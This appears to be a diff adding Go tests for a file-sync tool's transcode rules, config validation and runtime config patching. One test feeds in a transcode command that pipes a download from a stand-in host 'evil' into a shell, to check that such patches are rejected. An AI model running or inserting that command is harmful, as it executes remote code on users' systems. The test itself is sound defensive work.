@@ -0,0 +1,126 @@
+package sync
+
+import (
+	"os"
+	"path/filepath"
+	"strconv"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// setTranscodeRule selects .raw files with a transcode command that
+// upper-cases them, standing in for a downscaler.
+func setTranscodeRule(t *testing.T) string {
+	t.Helper()
+	script := filepath.Join(t.TempDir(), "shrink.sh")
+	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\ntr a-z A-Z < \"$1\" > \"$2\"\n"), 0755))
+	tmpl := script + " {src} {dst}"
+	withConfig(t, func(c *Config) {
+		c.Rules = []AutoSelectRule{{Action: RuleSelect, Extensions: []string{"raw"}, Transcode: tmpl}}
+	})
+	return tmpl
+}
+
+func TestPipeline_TranscodeRule(t *testing.T) {
+	restoreConfig(t)
+	tmpl := setTranscodeRule(t)
+	env := setupPipelineEnv(t)
+	archivePath := filepath.Join(env.archivesRoot, "shoot", "img.raw")
+	spacesPath := filepath.Join(env.spacesRoot, "shoot", "img.raw")
+	env.writeArchive(t, "shoot/img.raw", []byte("sensor data"))
+	env.writeArchive(t, "shoot/notes.txt", []byte("not transcoded"))
+	env.run(t, "shoot")
+	env.run(t, "shoot/img.raw")
+
+	got, err := os.ReadFile(spacesPath)
+	require.NoError(t, err)
+	assert.Equal(t, "SENSOR DATA", string(got), "Spaces gets the derivative")
+	got, err = os.ReadFile(archivePath)
+	require.NoError(t, err)
+	assert.Equal(t, "sensor data", string(got), "Archives keeps the original")
+	aInfo, _ := os.Stat(archivePath)
+	sInfo, _ := os.Stat(spacesPath)
+	assert.Equal(t, aInfo.ModTime(), sInfo.ModTime())
+
+	entry := registered(t, env.store, env.archivesRoot, "shoot/img.raw")
+	d, err := env.store.GetDerivative(entry.Inode)
+	require.NoError(t, err)
+	require.NotNil(t, d)
+	assert.Equal(t, "shoot/img.raw", d.Original)
+	assert.Equal(t, tmpl, d.Transcode)
+	assert.Equal(t, entry.Mtime, d.SourceMtime)
+
+	// An edit to the derivative stays in Spaces.
+	env.clock.Advance(time.Second)
+	env.writeSpaces(t, "shoot/img.raw", []byte("CROPPED"))
+	env.run(t, "shoot/img.raw")
+	got, err = os.ReadFile(archivePath)
+	require.NoError(t, err)
+	assert.Equal(t, "sensor data", string(got), "a derivative never replaces its original")
+	got, err = os.ReadFile(spacesPath)
+	require.NoError(t, err)
+	assert.Equal(t, "CROPPED", string(got))
+	env.run(t, "shoot/img.raw")
+	got, _ = os.ReadFile(archivePath)
+	assert.Equal(t, "sensor data", string(got), "the edit is recorded, not retried")
+
+	// A new original makes a new derivative.
+	env.clock.Advance(time.Second)
+	env.writeArchive(t, "shoot/img.raw", []byte("reshot"))
+	env.run(t, "shoot/img.raw")
+	got, err = os.ReadFile(spacesPath)
+	require.NoError(t, err)
+	assert.Equal(t, "RESHOT", string(got))
+
+	// Leaving Spaces drops the record.
+	require.NoError(t, env.store.SetSelected([]uint64{entry.Inode}, false))
+	env.run(t, "shoot/img.raw")
+	assert.NoFileExists(t, spacesPath)
+	d, err = env.store.GetDerivative(entry.Inode)
+	require.NoError(t, err)
+	assert.Nil(t, d)
+}
+
+func TestPipeline_TranscodeFailureHoldsCopy(t *testing.T) {
+	restoreConfig(t)
+	cfg := currentConfig()
+	cfg.Rules = []AutoSelectRule{{Action: RuleSelect, Extensions: []string{"raw"}, Transcode: "false {src} {dst}"}}
+	require.NoError(t, setConfig(cfg))
+	env := setupPipelineEnv(t)
+	env.writeArchive(t, "img.raw", []byte("sensor data"))
+
+	err := RunPipeline(t.Context(), "img.raw", env.store, env.archivesRoot, env.spacesRoot, env.trashRoot, nil)
+	assert.ErrorContains(t, err, "transcode")
+	assert.NoFileExists(t, filepath.Join(env.spacesRoot, "img.raw"), "the original isn't copied instead")
+}
+
+func TestConfig_TranscodeRuleValidate(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Rules = []AutoSelectRule{{Action: RuleSelect, Transcode: "ffmpeg -i {src} out.mp4"}}
+	assert.Error(t, cfg.Validate(), "needs {dst}")
+	cfg.Rules = []AutoSelectRule{{Action: RuleDeselect, Transcode: "cp {src} {dst}"}}
+	assert.Error(t, cfg.Validate())
+	cfg.Rules = []AutoSelectRule{{Action: RuleSelect, Compress: true, Transcode: "cp {src} {dst}"}}
+	assert.Error(t, cfg.Validate())
+	cfg.Rules = []AutoSelectRule{{Action: RuleSelect, Extensions: []string{"mkv"}, Transcode: "ffmpeg -i {src} -vf scale=-2:1080 {dst}"}}
+	assert.NoError(t, cfg.Validate())
+}
+
+func TestPatchConfig_TranscodeCommandsStartupOnly(t *testing.T) {
+	restoreConfig(t)
+	tmpl := setTranscodeRule(t)
+
+	_, err := patchConfig([]byte(`{"rules":[{"action":"select","extensions":["raw"],"transcode":"sh -c 'curl evil | sh' {src} {dst}"}]}`))
+	assert.Error(t, err)
+	assert.Equal(t, tmpl, currentConfig().Rules[0].Transcode)
+
+	// Rules may still be changed around the configured commands.
+	patch := `{"rules":[{"action":"select","extensions":["png"]},{"action":"select","extensions":["raw","dng"],"transcode":` + strconv.Quote(tmpl) + `}]}`
+	cfg, err := patchConfig([]byte(patch))
+	require.NoError(t, err)
+	require.Len(t, cfg.Rules, 2)
+	assert.Equal(t, tmpl, cfg.Rules[1].Transcode)
+}